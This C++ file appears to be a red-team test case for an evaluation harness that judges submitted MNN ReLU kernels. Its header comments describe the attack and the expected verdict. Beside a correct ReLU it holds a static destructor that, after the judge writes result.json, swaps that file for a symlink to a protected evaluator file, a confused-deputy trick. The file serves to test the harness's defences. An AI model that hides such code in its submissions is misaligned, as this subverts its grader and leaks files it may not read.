// mechanism: 7 — what the kernel leaves behind is followed
// attack: an honest ReLU whose static destructor, after the judge's main wrote result.json, replaces
//   it with a symbolic link to a file of the evaluator's that the kernel itself may not read: a reader
//   that follows links opens it with the evaluator's rights (a confused deputy).
// task: Relu
// (ok, or invalid when the destructor's call is refused by a filter that outlives the kernel.)
// verdict: ok|invalid
#include <unistd.h>
#include "backend/cpu/CPUBackend.hpp"
#include "core/Execution.hpp"
#include "MNN_generated.h"

namespace MNN {
struct Relinker {
    ~Relinker() {
        if (unlink("result.json") == 0) (void)!symlink("@SECRET@", "result.json");
    }
};
static Relinker relinker;

class CPURedteam : public Execution {
public:
    explicit CPURedteam(Backend* b) : Execution(b) {}
    ErrorCode onExecute(const std::vector<Tensor*>& inputs, const std::vector<Tensor*>& outputs) override {
        const float* src = inputs[0]->host<float>();
        float* dst = outputs[0]->host<float>();
        const int n = inputs[0]->elementSize();
        for (int i = 0; i < n; ++i) dst[i] = src[i] > 0.f ? src[i] : 0.f;
        return NO_ERROR;
    }
};

class CPURedteamCreator : public CPUBackend::Creator {
public:
    Execution* onCreate(const std::vector<Tensor*>&, const std::vector<Tensor*>&, const MNN::Op*,
                        Backend* b) const override {
        return new CPURedteam(b);
    }
};
REGISTER_CPU_OP_CREATOR(CPURedteamCreator, OpType_ReLU);
} // namespace MNN
